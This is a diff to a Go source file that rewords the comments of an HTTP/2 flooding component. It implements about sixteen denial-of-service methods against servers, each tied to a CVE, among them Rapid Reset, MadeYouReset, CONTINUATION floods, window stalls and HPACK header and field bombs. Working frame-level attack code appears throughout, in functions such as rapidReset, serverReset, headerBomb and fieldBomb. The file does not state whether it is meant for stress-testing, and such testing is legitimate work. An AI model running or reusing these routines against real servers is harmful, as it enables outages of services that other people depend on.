@@ -10,8 +10,7 @@ import (
 	"golang.org/x/net/http2/hpack"
 )
 
-// FloodKind is a way to attack a server with HTTP/2. Behind each stands what has brought servers
-// down before.
+// FloodKind is a way to attack a server with HTTP/2. Each kind is a known vulnerability of servers.
 type FloodKind uint8
 
 // The kinds.
@@ -19,19 +18,19 @@ const (
 	RapidReset        FloodKind = iota // opens streams and resets them at once (CVE-2023-44487)
 	ServerReset                        // opens streams and makes the server reset them, in four ways (CVE-2025-8671, "MadeYouReset")
 	ResetFlood                         // as ServerReset, and reads nothing (CVE-2019-9514)
-	ContinuationFlood                  // begins a head and goes on with it for ever (CVE-2023-45288)
-	EmptyContinuation                  // begins a head and goes on with it for ever, with nothing in it
-	SlowContinuation                   // begins a head and goes on with it, a field each Interval
-	SettingsFlood                      // sends SETTINGS and does not read that they were received (CVE-2019-9515)
-	PingFlood                          // sends PING and does not read the answers (CVE-2019-9512)
-	PriorityFlood                      // moves streams that do not exist around in the tree of priorities (CVE-2019-9513)
-	GoAwayFlood                        // says again and again that it leaves because of an error, and stays
-	EmptyData                          // sends bodies of nothing that do not end (CVE-2019-9518)
-	WindowStall                        // asks for many answers and lets none of their bytes be sent
-	WindowTrickle                      // asks for many answers and lets a byte of each be sent each Interval (CVE-2019-9511)
-	SocketStall                        // asks for many answers, lets them all be sent, and reads nothing (CVE-2019-9517)
-	HeaderBomb                         // a large field, sent once, that each request repeats 8,000 times (CVE-2016-6581)
-	FieldBomb                          // as many fields as the server allows on as many streams, which stay (CVE-2026-49975, "HTTP/2 Bomb")
+	ContinuationFlood                  // begins a head and continues it without end (CVE-2023-45288)
+	EmptyContinuation                  // begins a head and continues it without end, with empty frames
+	SlowContinuation                   // begins a head and continues it, a field each Interval
+	SettingsFlood                      // sends SETTINGS and does not read the acknowledgements (CVE-2019-9515)
+	PingFlood                          // sends PING and does not read the responses (CVE-2019-9512)
+	PriorityFlood                      // changes the priorities of streams that do not exist (CVE-2019-9513)
+	GoAwayFlood                        // sends GOAWAY with an error repeatedly, and stays connected
+	EmptyData                          // sends empty frames of a body without end (CVE-2019-9518)
+	WindowStall                        // requests many responses and does not allow any of their bytes to be sent
+	WindowTrickle                      // requests many responses and allows a byte of each to be sent each Interval (CVE-2019-9511)
+	SocketStall                        // requests many responses, allows all to be sent, and reads nothing (CVE-2019-9517)
+	HeaderBomb                         // sends a large field once, to which each request refers 8,000 times (CVE-2016-6581)
+	FieldBomb                          // as many fields as the server allows on as many streams, which stay open (CVE-2026-49975, "HTTP/2 Bomb")
 )
 
 // FloodKinds returns all kinds.
@@ -51,28 +50,28 @@ func (k FloodKind) String() string {
 	return fmt.Sprintf("FloodKind(%d)", uint8(k))
 }
 
-// method is how a kind works.
+// method is the implementation of a kind.
 type method struct {
 	name     string
-	deaf     bool         // reads nothing once the server has introduced itself
-	mute     bool         // cannot answer the server, as it is in the middle of a head
-	slow     bool         // sends each Interval only
-	settings []h2.Setting // to begin with
+	deaf     bool         // reads nothing after the first frames of the server
+	mute     bool         // cannot respond to the server, because it is in the middle of a head
+	slow     bool         // sends once each Interval
+	settings []h2.Setting // sent first
 
-	begin func(*flooding) error // may be nil
+	begin func(*flooding) error // called once; may be nil
 	round func(*flooding) error // sends a few frames, or returns errFull
 }
 
 // errFull is returned by a round that has nothing to send before the next Interval.
 var errFull = errors.New("nothing to send for now")
 
-// noWindow and wideWindow are what a client can let the server send on each stream.
+// noWindow and wideWindow are the settings of how much the server may send on each stream.
 var (
 	noWindow   = []h2.Setting{{ID: h2.SettingInitialWindowSize, Val: 0}}
 	wideWindow = []h2.Setting{{ID: h2.SettingInitialWindowSize, Val: math.MaxInt32}}
 )
 
-// methods is a table of the kinds; it is never written after start.
+// methods is a table of the kinds; it is not modified.
 var methods = [...]method{
 	RapidReset:        {name: "RapidReset", round: (*flooding).rapidReset},
 	ServerReset:       {name: "ServerReset", round: (*flooding).serverReset},
@@ -96,29 +95,28 @@ func (c *flooding) rapidReset() error {
 	return errors.Join(c.request("GET", true), c.framer.WriteRSTStream(c.stream, h2.ErrCodeCancel))
 }
 
-// serverReset does one of the things that are an error of the stream alone, whether it is still open
-// or not.
+// serverReset causes one of the errors of a stream, whether it is still open or not.
 func (c *flooding) serverReset() error {
 	way := c.streams % 4
 	err := c.request("GET", way > 1)
 	switch way {
 	case 0: // a window of more than 2^31-1
 		return errors.Join(err, c.framer.WriteWindowUpdate(c.stream, math.MaxInt32))
-	case 1: // an increment of nothing
+	case 1: // an increment of zero
 		return errors.Join(err, c.framer.WriteWindowUpdate(c.stream, 0))
 	case 2: // a stream that depends on itself
 		return errors.Join(err, c.framer.WritePriority(c.stream, h2.PriorityParam{StreamDep: c.stream}))
-	default: // a body after the end
+	default: // a body after the end of the stream
 		return errors.Join(err, c.framer.WriteData(c.stream, false, []byte("x")))
 	}
 }
 
-// beginHead begins a head beside an answer that waits, so that the connection is not an idle one.
+// beginHead begins a head beside a pending response, so that the connection is not idle.
 func (c *flooding) beginHead() error {
 	return errors.Join(c.request("GET", true), c.writeHead(c.encode("GET"), false, false))
 }
 
-// continueHead sends a field that is not to be remembered, so that all frames can be the same.
+// continueHead sends a field that is not stored in the table, so that all frames can be the same.
 func (c *flooding) continueHead() error {
 	if c.field == nil {
 		c.field = c.fields(hpack.HeaderField{Name: "x-flood", Value: strings.Repeat("x", 1000), Sensitive: true}, 1)
@@ -159,7 +157,7 @@ func (c *flooding) emptyData() error {
 	return c.framer.WriteData(c.stream, false, nil)
 }
 
-// stall opens streams until there are as many as can be.
+// stall opens streams up to the limit.
 func (c *flooding) stall() error {
 	if c.full() {
 		return errFull
@@ -175,7 +173,7 @@ func (c *flooding) trickle() error {
 	return c.give()
 }
 
-// give lets a byte be sent on each stream.
+// give allows one byte to be sent on each stream.
 func (c *flooding) give() error {
 	for _, id := range c.keeps() {
 		if err := errors.Join(c.framer.WriteWindowUpdate(0, 1), c.framer.WriteWindowUpdate(id, 1)); err != nil {
@@ -185,13 +183,12 @@ func (c *flooding) give() error {
 	return errFull
 }
 
-// widen opens the window of the connection, of which a little is open from the start.
+// widen opens the window of the connection, which is small at first.
 func (c *flooding) widen() error {
 	return c.framer.WriteWindowUpdate(0, math.MaxInt32-65535)
 }
 
-// stallSocket stalls, and then says something that needs no answer, to learn whether the connection
-// is still there.
+// stallSocket stalls, and then sends a frame that needs no response, to check whether the connection is still open.
 func (c *flooding) stallSocket() error {
 	if err := c.stall(); !errors.Is(err, errFull) {
 		return err
@@ -202,8 +199,8 @@ func (c *flooding) stallSocket() error {
 	return errFull
 }
 
-// cookie is a large field that leaves room for another one in a table of the usual 4 KiB. Servers
-// put cookies together again, as clients may send them in parts.
+// cookie returns a large field that leaves room for another one in a table of the usual 4 KiB. Servers join cookies
+// again, since clients may send them in parts.
 func cookie() hpack.HeaderField {
 	return hpack.HeaderField{Name: "cookie", Value: strings.Repeat("c", 3000)}
 }
@@ -212,7 +209,7 @@ func (c *flooding) headerBomb() error {
 	return c.writeHead(append(c.encode("GET"), c.fields(cookie(), 8000)...), false, true)
 }
 
-// fieldBomb stays within what the server allows, in few large or in many small fields by turns.
+// fieldBomb stays within the limits of the server, alternating between few large and many small fields.
 func (c *flooding) fieldBomb() error {
 	if c.full() {
 		return c.give()
